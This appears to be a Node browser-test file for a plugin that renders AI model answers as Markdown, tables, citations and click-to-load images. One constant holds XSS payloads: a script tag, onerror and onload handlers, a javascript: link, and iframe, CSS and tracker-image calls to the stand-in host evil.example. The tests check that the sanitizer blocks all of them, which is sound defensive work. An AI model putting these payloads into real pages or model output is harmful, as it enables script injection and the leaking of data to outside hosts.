// The best view for an answer, and what a model's Markdown must not do.

import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { afterEach, describe, test } from 'node:test';
import { answerWith, JSON_TYPE, MARKDOWN } from './answers.mjs';
import { usePlayground } from './browser.mjs';
import { choose, openExample, query, result, run, textbox } from './page.mjs';

const plugin = readFileSync(new URL('../../dist/index.js', import.meta.url), 'utf8');

const HOSTILE = `**Bold**
<script>window.pwned = 1</script>
<img src=x onerror="window.pwned = 2">
<svg onload="window.pwned = 3"><image href="https://evil.example/1.svg"></image></svg>
<iframe src="https://evil.example/2"></iframe>
<style>@import "https://evil.example/3.css";</style>
<p style="background: url(https://evil.example/4.png)">styled</p>
<video poster="https://evil.example/5.png" src="https://evil.example/6"></video>
<form action="https://evil.example/7"><input type="image" src="https://evil.example/8.png"></form>
<link rel="prefetch" href="https://evil.example/9">
[click](javascript:window.pwned=4)

![tracker](https://evil.example/10.png?secret=1)
<img srcset="https://evil.example/11.png 2x" alt="set">
![pixel](data:image/gif;base64,R0lGODlhAQABAAAAACH5BAEKAAEALAAAAAABAAEAAAICTAEAOw==)
`;

describe('a result', () => {
  const playground = usePlayground({ plugin });
  afterEach(() => playground.mockApi.respondWith(undefined));

  async function answered(content) {
    playground.mockApi.respondWith(answerWith(content));
    const page = await playground.open();
    const asked = [];
    await page.route(/evil\.example/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await textbox(query(page), 'Prompt').fill('Say ping');
    assert.equal(await run(page), 'Success');
    return { page, asked, data: result(page).locator('.value').first() };
  }

  test('is rendered when it is Markdown, and shown as plain text on demand', async () => {
    const { data } = await answered(MARKDOWN);
    await data.getByRole('heading', { name: 'Plan' }).waitFor();
    await data.getByRole('cell', { name: '2' }).waitFor();
    const link = data.getByRole('link', { name: 'link' });
    assert.equal(await link.getAttribute('rel'), 'noopener noreferrer');
    assert.equal(await link.getAttribute('target'), '_blank');
    await data.getByRole('radio', { name: 'Text' }).check();
    assert.equal(await data.locator('.text-value').textContent(), MARKDOWN);
  });

  test('is plain text when there is nothing to render', async () => {
    for (const text of ['17 * 24 = 408', 'One line.\nAnother <b>line</b>.']) {
      const { data } = await answered(text);
      assert.equal(await data.getByRole('radio', { name: 'Rendered' }).count(), 0, text);
      assert.equal(await data.locator('.text-value').textContent(), text);
    }
  });

  test('runs no script and loads nothing by itself when its Markdown is hostile', async () => {
    const { page, asked, data } = await answered(HOSTILE);
    await data.getByRole('radio', { name: 'Rendered' }).waitFor();
    await data.locator('strong').getByText('Bold').waitFor();
    const image = data.getByRole('img', { name: 'pixel' });
    await image.evaluate((element) => element.decode());
    assert.deepEqual(asked, []);
    assert.equal(await page.evaluate(() => window.pwned), undefined);
    const left = await data
      .locator('.markdown')
      .evaluate((element) =>
        [...element.querySelectorAll('*')].flatMap((each) => [
          each.localName,
          ...each.getAttributeNames().map((name) => `${each.localName} ${name}`),
        ]),
      );
    for (const banned of ['script', 'svg', 'iframe', 'style', 'video', 'form', 'input', 'link']) {
      assert.ok(!left.includes(banned), banned);
    }
    for (const banned of [/ on/, / style$/, / srcset$/, /^a href$/]) {
      assert.deepEqual(
        left.filter((each) => banned.test(each)),
        [],
      );
    }
  });

  test('loads an image of its Markdown after a click', async () => {
    const { page, asked, data } = await answered('![map](https://evil.example/map.png)');
    const requested = page.waitForEvent('requestfailed');
    await data.getByRole('button', { name: 'Load image from evil.example: map' }).click();
    await requested;
    assert.deepEqual(asked, ['https://evil.example/map.png']);
  });

  test('is followed by links to its sources', async () => {
    const citation = { url: 'https://example.com/news', title: 'News' };
    const annotations = [
      { type: 'url_citation', url_citation: { start_index: 0, end_index: 3, ...citation } },
    ];
    playground.mockApi.respondWith(answerWith('Yes.', { annotations }));
    const page = await playground.open({ tooljet: 2 });
    await textbox(query(page), 'Prompt').fill('Is it true?');
    assert.equal(await run(page), 'Success');
    const sources = result(page).getByRole('region', { name: 'Sources' });
    const link = sources.getByRole('link', { name: 'News' });
    assert.equal(await link.getAttribute('href'), citation.url);
    assert.match(await sources.textContent(), /example\.com/);
  });

  test('is a table when it is a list of objects', async () => {
    const page = await playground.open();
    await openExample(page, 'List image models');
    const table = result(page).getByRole('table');
    const columns = await table.getByRole('columnheader').allTextContents();
    assert.equal(columns[0], 'id');
    const ids = await table.locator('td:first-child').allTextContents();
    assert.ok(ids.includes('gpt-image-2.6-flare'), ids.join());
  });

  test('tells its time from that of the query', async () => {
    const page = await playground.open();
    await openExample(page, 'Answer a text input');
    const time = result(page).getByTitle(/^From the server’s call .* duration_ms, in metadata, is/);
    assert.match(await time.textContent(), /^[\d.]+ m?s$/);
  });

  test('shows the rows of a list in full within the panel, with models and failures above', async () => {
    const long = 'A prompt of many words. '.repeat(20).trim();
    const rows = JSON.stringify([long, 'x'.repeat(150), { images: 3 }]);
    for (const viewport of [{ width: 1280 }, { width: 390, height: 844 }]) {
      const page = await playground.open(viewport);
      await choose(query(page), 'Operation', 'Chat for a list');
      await textbox(query(page), 'Prompts').fill(rows);
      assert.equal(await run(page), 'Success');
      assert.match(
        await result(page).locator('.summary').textContent(),
        /^gpt-5\.4-mini-\S+ · \d+ tokens in, \d+ out · [\d.]+ m?s1 of 3 rows failed$/,
      );
      const table = result(page).getByRole('region', { name: 'Table of data' });
      const [content, room] = await table.evaluate((element) => [
        element.scrollWidth,
        element.clientWidth,
      ]);
      assert.ok(content <= room, `${content} px in ${room} px`);
      const cell = table.locator('td').first();
      await cell.getByRole('button', { name: 'Show all' }).click();
      assert.equal(await cell.textContent(), `${long}Show less`);
    }
  });

  test('loads an image that the API only links to after a click', async () => {
    playground.mockApi.respondWith({
      headers: JSON_TYPE,
      body: { created: 1, data: [{ url: 'https://evil.example/drawn.png' }] },
    });
    const page = await playground.open();
    const asked = [];
    await page.route(/evil\.example/, (route) => {
      asked.push(route.request().url());
      return route.abort();
    });
    await openExample(page, 'Draw');
    const load = result(page).getByRole('button', { name: 'Load image from evil.example' });
    await load.waitFor();
    assert.deepEqual(asked, []);
    const requested = page.waitForEvent('requestfailed');
    await load.click();
    await requested;
    assert.deepEqual(asked, ['https://evil.example/drawn.png']);
  });
});
